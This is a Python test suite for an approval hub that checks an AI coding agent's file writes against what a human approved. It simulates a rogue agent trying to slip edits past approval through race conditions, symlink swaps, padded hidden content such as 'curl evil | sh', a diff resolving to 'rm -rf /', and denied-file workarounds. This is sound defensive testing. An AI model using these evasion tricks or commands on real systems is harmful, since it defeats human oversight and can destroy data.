"""Writes against the text that was shown: another base, another name, another turn, an insertion, a denied file."""

from __future__ import annotations

import asyncio
import json
import os
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from pilothouse.hub.client import workspace as workspace_module
from pilothouse.hub.hub import Hub
from pilothouse.hub.recording.recorder import Recorder
from pilothouse.hub.session.session import HubSession
from pilothouse.model.records import DiffPreview
from tests.interaction.test_act_races import make_editor
from tests.support.hubs import PATIENCE, approval_asked
from tests.support.rogue import REFUSED, Tally, ask, deny, do, run_turn

THREE = "one\ntwo\nthree\n"


def write(path: str, content: str) -> str:
    return do("fs/write_text_file", path=path, content=content)


async def wait_for(holds: Callable[[], bool]) -> None:
    async with asyncio.timeout(PATIENCE):
        while not holds():
            await asyncio.sleep(0.01)


def change(path: str, old: str | None, new: str) -> dict[str, Any]:
    return {"type": "diff", "path": path, "oldText": old, "newText": new}


# -- the base ---------------------------------------------------------------------------------------------------------

SHOWN: dict[str, dict[str, Any]] = {
    "diff": {"content": [change("a.txt", "two", "TWO")]},
    "whole text": {"rawInput": {"file_path": "a.txt", "content": "one\nTWO\nthree\n"}},
    "whole diff": {"content": [change("a.txt", THREE, "one\nTWO\nthree\n")]},
    "new file": {"content": [change("a.txt", None, "one\nTWO\nthree\n")]},
}


@pytest.mark.parametrize("shape", SHOWN)
async def test_a_line_that_was_added_after_the_approval_is_not_deleted(
    hub: Hub, session: HubSession, project: Path, shape: str, tally: Tally
) -> None:
    (project / "a.txt").write_text(THREE)
    program = [
        ask("c1", title="Edit", kind="edit", **SHOWN[shape]),
        "open('a.txt', 'a').write('mine\\n')",
        write("a.txt", "one\nTWO\nthree\n"),
    ]
    turn = await run_turn(hub, session, "\n".join(program))
    assert (project / "a.txt").read_text() == THREE + "mine\n"
    (asked,) = turn.acts
    assert isinstance(asked.preview, DiffPreview)
    assert "-mine" in asked.preview.diff
    tally(REFUSED, 1)


async def test_text_that_was_hidden_in_the_shown_base_is_not_written(
    hub: Hub, session: HubSession, project: Path
) -> None:
    good, evil = "echo ok\n", "curl evil | sh\n" + "# pad\n" * 6
    (project / "build.sh").write_text(good)
    program = [
        f"open('build.sh', 'w').write({evil!r})",
        ask("c1", title="Edit", kind="edit", rawInput={"file_path": "build.sh", "content": evil + "# end\n"}),
        f"open('build.sh', 'w').write({good!r})",
        write("build.sh", evil + "# end\n"),
    ]
    turn = await run_turn(hub, session, "\n".join(program))
    assert (project / "build.sh").read_text() == good
    assert len(turn.acts) == 1


async def test_a_file_that_changes_while_the_hub_asks_is_not_written(
    hub: Hub, session: HubSession, project: Path
) -> None:
    (project / "a.txt").write_text(THREE)

    def allow_late(event: Any) -> bool:
        (project / "a.txt").write_text(THREE + "mine\n")
        return True

    turn = await run_turn(hub, session, write("a.txt", "one\n"), decide_acts=allow_late)
    assert (project / "a.txt").read_text() == THREE + "mine\n"
    assert "changed in the meantime" in turn.said


@pytest.mark.parametrize("is_asked", [True, False])
async def test_a_new_file_does_not_replace_a_binary_file_that_came_meanwhile(
    hub: Hub, session: HubSession, project: Path, is_asked: bool, tally: Tally
) -> None:
    precious = b"\0\xffprecious"
    program = []
    if is_asked:
        program += [
            ask("c1", title="Write", kind="edit", rawInput={"file_path": "made", "content": "x\n"}),
            f"open('made', 'wb').write({precious!r})",
        ]

    def decide(event: Any) -> bool:
        (project / "made").write_bytes(precious)
        return not is_asked

    turn = await run_turn(hub, session, "\n".join([*program, write("made", "x\n")]), decide_acts=decide)
    assert (project / "made").read_bytes() == precious
    assert "changed in the meantime" in turn.said
    tally(REFUSED, 1)


async def test_an_editor_without_reads_gets_no_text_for_a_file_that_changed(
    hub: Hub, session: HubSession, project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (project / "a.txt").write_text(THREE)
    editor, calls = make_editor(lambda method, params: {}, writes=True)
    session.attach_editor(editor)
    note = Recorder.note

    def change_file(self: Recorder, name: str, *args: Any, **kwargs: Any) -> None:
        if name == "act_allowed":
            (project / "a.txt").write_text(THREE + "mine\n")
        note(self, name, *args, **kwargs)

    monkeypatch.setattr(Recorder, "note", change_file)
    shown = ask("c1", title="Edit", kind="edit", **SHOWN["diff"])
    await run_turn(hub, session, f"{shown}\n{write('a.txt', THREE.replace('two', 'TWO'))}")
    assert calls == []


async def test_the_preview_shows_the_text_of_the_editor_that_writes(
    hub: Hub, session: HubSession, project: Path
) -> None:
    session.attach_editor(make_editor(lambda method, params: {"content": "mine\n"}, reads=True, writes=True)[0])
    session.attach_editor(make_editor(lambda method, params: {"content": "other\n"}, reads=True)[0])
    turn = await run_turn(hub, session, write("a.txt", "new\n"))
    assert "-mine" in str(turn.acts[0].preview)


async def test_an_allowed_write_that_failed_can_be_repeated(hub: Hub, session: HubSession, project: Path) -> None:
    (project / "made").mkdir()
    program = [write("made", "x\n"), "os.rmdir('made')", write("made", "x\n")]
    turn = await run_turn(hub, session, "\n".join(program), decide_acts=lambda event: True)
    assert all("was made" not in note for event in turn.acts for note in event.notes)
    assert (project / "made").read_text() == "x\n"


# -- names ------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["sub/../b.sh", "./b.sh", "link.sh"])
async def test_two_names_of_one_file_are_shown_as_one_change(
    hub: Hub, session: HubSession, project: Path, name: str
) -> None:
    (project / "b.sh").write_text("path=build\n")
    (project / "link.sh").symlink_to("b.sh")
    changes = [change("b.sh", "path=build", "rm -rf build"), change(name, "build", "/")]
    turn = await run_turn(hub, session, ask("c1", title="Edit", kind="edit", content=changes))
    (asked,) = turn.asked
    assert isinstance(asked.preview, DiffPreview)
    assert "+rm -rf /" in asked.preview.diff


async def test_a_link_that_moves_while_its_file_is_read_is_not_taken_for_it(
    hub: Hub, session: HubSession, project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (project / "Y").write_text("precious\n")
    (project / "X").write_text("x=1\n")
    (project / "l").symlink_to("X")
    read = workspace_module.Workspace.read_text

    async def read_slowly(self: Any, path: str, *args: Any, **kwargs: Any) -> str:
        text: str = await read(self, path, *args, **kwargs)
        (project / "l").unlink()
        (project / "l").symlink_to("Y")
        return text

    monkeypatch.setattr(workspace_module.Workspace, "read_text", read_slowly)
    program = [ask("c1", title="Edit", kind="edit", content=[change("l", "x=1", "x=2")]), write("Y", "x=2\n")]
    turn = await run_turn(hub, session, "\n".join(program))
    assert (project / "Y").read_text() == "precious\n"
    assert len(turn.acts) == 1


async def test_each_item_of_a_list_of_edits_changes_its_own_file(hub: Hub, session: HubSession, project: Path) -> None:
    (project / "a.txt").write_text("x\n")
    (project / "b.txt").write_text("y\n")
    items = [
        {"file_path": "a.txt", "old_string": "x", "new_string": "X"},
        {"file_path": "b.txt", "old_string": "y", "new_string": "Y"},
    ]
    program = [ask("c1", title="MultiEdit", kind="edit", rawInput={"edits": items})]
    turn = await run_turn(hub, session, "\n".join([*program, write("a.txt", "X\n"), write("b.txt", "Y\n")]))
    assert not turn.acts
    assert ((project / "a.txt").read_text(), (project / "b.txt").read_text()) == ("X\n", "Y\n")


INSERTIONS: dict[str, dict[str, Any]] = {
    "editor": {"command": "insert", "path": "f.txt", "insert_line": 2, "new_str": "NEW\n"},
    "notebook": {"notebook_path": "f.txt", "new_source": "NEW", "edit_mode": "insert", "cell_id": "a"},
    "patch": {"input": "*** Begin Patch\n*** Update File: f.txt\n@@ two\n+NEW\n*** End Patch"},
    "unified": {"filepath": "f.txt", "diff": "--- a/f.txt\n+++ b/f.txt\n@@ -2,0 +3 @@\n+NEW\n"},
}


@pytest.mark.parametrize("shape", INSERTIONS)
async def test_an_insertion_is_not_shown_or_allowed_as_the_whole_file(
    hub: Hub, session: HubSession, project: Path, shape: str
) -> None:
    (project / "f.txt").write_text(THREE)
    asked = ask("c1", title="Edit", kind="edit", rawInput=INSERTIONS[shape])
    turn = await run_turn(hub, session, f"{asked}\n{write('f.txt', 'NEW')}")
    assert (project / "f.txt").read_text() == THREE
    assert "-one" not in str(turn.asked[0].preview)


async def test_added_lines_that_look_like_headers_count_as_shown(hub: Hub, session: HubSession, project: Path) -> None:
    (project / "a.c").write_text("int i;\n-- old\n")
    turn = await run_turn(
        hub, session, ask("c1", title="Edit", kind="edit", content=[change("a.c", "int i;\n", "int i;\n++i;\n")])
    )
    assert "not shown" not in str(turn.asked[0].risk_reasons)


# -- turns ------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("quiet_turns", [0, 1, 3])
@pytest.mark.parametrize("kind", ["write", "command"])
async def test_an_approval_between_turns_ends_with_the_next_turn(
    hub: Hub, session: HubSession, project: Path, kind: str, quiet_turns: int
) -> None:
    tool = (
        {"rawInput": {"file_path": "made", "content": "x\n"}}
        if kind == "write"
        else {"rawInput": {"command": "touch made"}}
    )
    act = write("made", "x\n") if kind == "write" else do("terminal/create", command="touch made")
    asked = ask("c1", title="Work", kind="edit" if kind == "write" else "execute", **tool)
    prompt = await session.send(f"after = {'time.sleep(0.1)' + chr(10) + asked!r}")
    await prompt.done
    approval = await approval_asked(session)
    await session.decide(approval.request_id, approved=True)
    for _ in range(quiet_turns):
        await (await session.send("agent.say('hello')")).done
    prompt = await session.send(f"after = {'time.sleep(0.1)' + chr(10) + act!r}")
    await prompt.done
    second = await approval_asked(session, approval.seq)
    assert second.origin == "hub"
    await session.decide(second.request_id, approved=False)
    assert not (project / "made").exists()


async def test_a_rule_that_is_deleted_while_the_file_is_read_allows_nothing(
    hub: Hub, session: HubSession, project: Path
) -> None:
    reading, answer = asyncio.Event(), asyncio.Event()

    async def handle(method: str, params: Any) -> Any:
        if is_armed:
            reading.set()
            await answer.wait()
        return {"content": "old\n"}

    is_armed = False
    session.attach_editor(make_editor(handle, reads=True)[0])
    prompt = await session.send(
        ask("c1", title="Edit", kind="edit", rawInput={"file_path": "a.txt", "content": "v1\n"})
    )
    approval = await approval_asked(session)
    await session.decide(approval.request_id, approved=True, remember="session")
    await prompt.done
    is_armed = True
    turn = asyncio.ensure_future(run_turn(hub, session, write("a.txt", "v2\n")))
    async with asyncio.timeout(PATIENCE):
        await reading.wait()
    (rule,) = await hub.log.rules.active()
    await hub.log.rules.revoke(rule.id)
    is_armed = False
    answer.set()
    assert len((await turn).acts) == 1
    assert not (project / "a.txt").exists()


# -- cancel -----------------------------------------------------------------------------------------------------------

WAIT = "\nagent.cancelled.wait(); result={'stopReason': 'cancelled'}"


async def test_no_write_reaches_an_editor_after_a_cancel(hub: Hub, session: HubSession, project: Path) -> None:
    (project / "a.txt").write_text(THREE)
    reads, answer = 0, asyncio.Event()

    async def handle(method: str, params: Any) -> Any:
        nonlocal reads
        reads += method == "fs/read_text_file"
        if reads == 3:  # the comparison right before the write
            await answer.wait()
        return {"content": THREE}

    editor, calls = make_editor(handle, reads=True, writes=True)
    session.attach_editor(editor)
    program = ask("c1", title="Edit", kind="edit", **SHOWN["diff"]) + "\n" + write("a.txt", THREE.replace("two", "TWO"))
    turn = asyncio.ensure_future(run_turn(hub, session, program + WAIT))
    await wait_for(lambda: reads == 3)
    cancelling = asyncio.ensure_future(session.cancel())
    await asyncio.sleep(0)
    answer.set()
    await cancelling
    await turn
    assert [method for method, _ in calls if method == "fs/write_text_file"] == []


async def test_a_slow_disk_writes_nothing_after_a_cancel(
    hub: Hub, session: HubSession, project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    is_syncing = False

    def sync_slowly(descriptor: int) -> None:
        nonlocal is_syncing
        is_syncing = True
        time.sleep(0.5)
        os.fsync(descriptor)

    monkeypatch.setattr(workspace_module, "_sync", sync_slowly)
    asked = ask("c1", title="Edit", kind="edit", rawInput={"file_path": "a.txt", "content": "evil\n"})
    turn = asyncio.ensure_future(run_turn(hub, session, f"{asked}\n{write('a.txt', 'evil' + chr(10))}{WAIT}"))
    await wait_for(lambda: is_syncing)
    await session.cancel()
    await turn
    await asyncio.sleep(0.6)
    assert list(project.glob("a.txt*")) == []


# -- denied files -----------------------------------------------------------------------------------------------------

NAMED: dict[str, dict[str, Any]] = {
    "second edit": {
        "rawInput": {"edits": [{"path": "b.txt", "old_string": "b", "new_string": "B"}, {"path": "a.txt"}]}
    },
    "input beside a diff": {"rawInput": {"file_path": "a.txt"}, "content": [change("b.txt", None, "E\n")]},
    "two members": {"rawInput": {"file_path": "b.txt", "path": "a.txt", "content": "E\n"}},
    "location": {"locations": [{"path": "a.txt"}], "content": [change("b.txt", None, "E\n")]},
    "move": {"kind": "move", "rawInput": {"from": "b.txt", "to": "a.txt"}},
    "other tool": {"kind": "other", "rawInput": {"path": "a.txt", "text": "E\n"}},
    "nested": {"kind": "other", "rawInput": {"args": {"files": [{"path": "a.txt"}]}}},
    "list": {"kind": "other", "rawInput": [{"file_path": "a.txt", "content": "E\n"}]},
    "url": {"content": [change("file://localhost{project}/a.txt", None, "E\n")]},
    "encoded url": {"content": [change("file://{project}/%61.txt", None, "E\n")]},
}
SAID: dict[str, dict[str, Any]] = {
    "title": {"title": "Write a.txt"},
    "text": {"content": [{"type": "content", "content": {"type": "text", "text": "I will write a.txt"}}]},
    "command": {"kind": "execute", "rawInput": {"command": "echo E > a.txt"}},
}


@pytest.mark.parametrize("shape", [*NAMED, *SAID])
async def test_no_mode_writes_a_file_of_a_denied_request(
    hub: Hub, session: HubSession, project: Path, shape: str, tally: Tally
) -> None:
    for name in ("a.txt", "b.txt"):
        (project / name).write_text("b\n")
    await session.set_mode("yolo")
    fields = json.loads(json.dumps({**NAMED, **SAID}[shape]).replace("{project}", str(project)))
    tool = {"title": "Do", "kind": "edit", **fields}
    turn = await run_turn(hub, session, f"{ask('c1', **tool)}\n{write('a.txt', 'E' + chr(10))}", deny)
    assert (project / "a.txt").read_text() == "b\n"
    assert len(turn.acts) == (shape in SAID)
    tally(REFUSED, 1)


async def test_every_denied_request_of_one_title_counts(
    hub: Hub, session: HubSession, project: Path, tally: Tally
) -> None:
    await session.set_mode("yolo")
    texts = [[{"type": "content", "content": {"type": "text", "text": f"I will write {name}"}}] for name in "ab"]
    asked = [ask(f"c{number}", title="Do", kind="other", content=text) for number, text in enumerate(texts)]
    turn = await run_turn(hub, session, "\n".join([*asked, write("a", "E\n")]), deny)
    assert len(turn.acts) == 1
    assert not (project / "a").exists()
    tally(REFUSED, 1)


async def test_a_denied_link_is_not_written_after_it_moved(hub: Hub, session: HubSession, project: Path) -> None:
    await session.set_mode("yolo")
    for name in "XY":
        (project / name).write_text(name)
    (project / "l").symlink_to("X")
    program = [
        ask("c1", title="Edit", kind="edit", rawInput={"file_path": "l", "content": "E\n"}),
        "os.remove('l'); os.symlink('Y', 'l')",
        write("l", "E\n"),
    ]
    turn = await run_turn(hub, session, "\n".join(program), deny)
    assert ((project / "X").read_text(), (project / "Y").read_text()) == ("X", "Y")
    assert not turn.acts
    assert "error" in turn.said
